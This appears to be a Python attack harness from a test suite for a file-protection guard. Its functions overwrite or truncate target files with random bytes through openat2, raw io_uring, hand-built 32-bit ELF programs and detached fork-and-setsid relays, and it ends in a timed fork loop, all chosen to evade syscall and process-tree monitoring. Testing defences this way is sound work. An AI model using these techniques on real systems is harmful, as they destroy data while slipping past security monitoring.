"""Attacks that need system calls which Rust's safe libraries do not offer.

Started by attack.rs, which has checked the folder's marker: python3 -c THIS KIND FILE...
Each touches only the files it is given.
"""
import ctypes
import mmap
import os
import random
import struct
import subprocess
import sys
import threading
import time

LIBC = ctypes.CDLL(None, use_errno=True)
NOISE = random.Random(7)


def noise(size):
    return NOISE.randbytes(size)


def syscall(number, *arguments):
    done = LIBC.syscall(ctypes.c_long(number), *arguments)
    if done < 0:
        error = ctypes.get_errno()
        raise OSError(error, os.strerror(error))
    return done


def truncate_by_path(path):
    os.truncate(path, 0)


def map_shared(path):
    size = os.path.getsize(path)
    file = os.open(path, os.O_RDWR)
    with mmap.mmap(file, size) as view:
        view[:] = noise(size)
    os.close(file)


def openat2(path):
    """A flag that no register shows: the kernel reads it from memory."""
    how = struct.pack("QQQ", os.O_RDWR | os.O_TRUNC, 0, 0)
    size = os.path.getsize(path)
    file = syscall(437, -100, ctypes.c_char_p(path.encode()), ctypes.c_char_p(how), 24)
    os.write(file, noise(size))
    os.close(file)


class Ring:
    """The least of io_uring that writes."""

    def __init__(self):
        parameters = (ctypes.c_uint32 * 30)()
        self.file = syscall(425, 4, parameters)
        self.entries = parameters[0]
        submit, complete = parameters[10:20], parameters[20:30]
        self.submit = mmap.mmap(self.file, submit[6] + 4 * self.entries, offset=0)
        self.complete = mmap.mmap(self.file, complete[5] + 16 * parameters[1], offset=0x8000000)
        self.slots = mmap.mmap(self.file, 64 * self.entries, offset=0x10000000)
        self.tail, self.array = submit[1], submit[6]
        self.head = complete[0]
        self.count = 0

    def put_write(self, file, buffer, flags=1 << 4):
        self.put(23, flags, file, 0, ctypes.addressof(buffer), len(buffer), 0)

    def put(self, opcode, flags, file, offset, address, length, more):
        slot = struct.pack("<BBHiQQIIQ", opcode, flags, 0, file, offset, address, length, more, 1)
        index = self.count % self.entries
        self.slots[64 * index : 64 * index + len(slot)] = slot
        self.submit[self.array + 4 * index : self.array + 4 * index + 4] = struct.pack("<I", index)
        self.count += 1
        self.submit[self.tail : self.tail + 4] = struct.pack("<I", self.count)

    def write(self, file, data):
        self.put_write(file, ctypes.create_string_buffer(data, len(data)))
        syscall(426, self.file, 1, 1, 1, None, 0)
        self.complete[self.head : self.head + 4] = struct.pack("<I", self.count)


RING = None


def io_uring(path):
    global RING
    RING = RING or Ring()
    size = os.path.getsize(path)
    file = os.open(path, os.O_RDWR)
    RING.write(file, noise(size))
    os.close(file)


HELD, WRITTEN = [], []


def io_uring_behind_a_read(path):
    """Four writes at once. The kernel makes a thread for the second when the first waits, while their
    maker is in a call that reads, whose registers the new thread inherits."""
    global RING
    RING = RING or Ring()
    size = os.path.getsize(path)
    file = os.open(path, os.O_RDWR)
    HELD.append((file, ctypes.create_string_buffer(noise(size), size)))
    if len(HELD) < RING.entries:
        return
    here, there = os.pipe()
    threading.Timer(0.02, os.write, (there, b"x")).start()
    for one in HELD:
        RING.put_write(*one)
    syscall(426, RING.file, len(HELD), 0, 0, None, 0)
    os.read(here, 1)
    RING.complete[RING.head : RING.head + 4] = struct.pack("<I", RING.count)
    for file in (here, there, *(file for file, _ in HELD)):
        os.close(file)
    # A write that waits for the guard still needs its noise.
    WRITTEN.extend(HELD)
    HELD.clear()


def io_uring_at_the_end_of_a_read(path):
    """A write that follows a timer: its maker, who reads the same file again and again, does it at the
    end of one of those calls, whose registers it bears."""
    global RING
    RING = RING or Ring()
    size = os.path.getsize(path)
    file = os.open(path, os.O_RDWR)
    buffer = ctypes.create_string_buffer(noise(size), size)
    before = buffer.raw
    soon = (ctypes.c_int64 * 2)(0, 2_000_000)
    succeeds, linked = 1 << 5, 1 << 2
    RING.put(11, linked, -1, 0, ctypes.addressof(soon), 1, succeeds)
    RING.put_write(file, buffer, 0)
    syscall(426, RING.file, 2, 0, 0, None, 0)
    end = time.monotonic() + 1
    while time.monotonic() < end and os.pread(file, size, 0) != before:
        # A write that need not settle the file's time is done here and now.
        os.utime(file)
    RING.complete[RING.head : RING.head + 4] = struct.pack("<I", RING.count)
    os.close(file)


def program_of_32_bits(path, opens):
    """Opens, writes and exits by the 32-bit gate; the noise stands behind the code."""
    base, head, size = 0x08048000, 84, 4096
    code = bytes.fromhex(opens + "cd80 89c3 b804000000 b9")
    tail = bytes.fromhex("ba00100000 cd80 b801000000 31db cd80")
    buffer = base + head + len(code) + 4 + len(tail)
    code += struct.pack("<I", buffer) + tail + noise(size)
    whole = head + len(code)
    elf = b"\x7fELF\x01\x01\x01" + bytes(9)
    elf += struct.pack("<HHIIIIIHHHHHH", 2, 3, 1, base + head, 52, 0, 0, 52, 32, 1, 0, 0, 0)
    elf += struct.pack("<IIIIIIII", 1, 0, base, base, whole, whole, 5, 4096)
    with open(path, "wb") as out:
        out.write(elf + code)
    os.chmod(path, 0o755)


def with_32_bits(path, name, opens):
    program = os.path.join(os.path.dirname(path), "..", "elsewhere", name)
    if not os.path.exists(program):
        program_of_32_bits(program, opens)
    subprocess.run([program, path], check=True)


def write_with_32_bits(path):
    with_32_bits(path, "writer32", "b805000000 8b5c2408 b902000000")


def empty_with_32_bits(path):
    """openat with O_TRUNC: its 32-bit number is that of a 64-bit call that reads."""
    with_32_bits(path, "emptier32", "b827010000 bb9cffffff 8b4c2408 ba02020000")


def relay(path):
    """Each file by a process of its own, in a session of its own, whose maker has gone: no tree."""
    if os.fork():
        os._exit(0)
    os.setsid()
    with open(path, "r+b") as file:
        file.write(noise(os.path.getsize(path)))


def fork_on():
    """Then it goes on forking and does nothing else; an end is set to it."""
    end = time.monotonic() + 60
    while time.monotonic() < end:
        if os.fork():
            os._exit(0)
        os.setsid()


for target in sys.argv[2:]:
    try:
        globals()[sys.argv[1]](target)
    except OSError:
        pass  # denied or gone: an attacker tries the next
if sys.argv[1] == "relay":
    fork_on()
print("done")
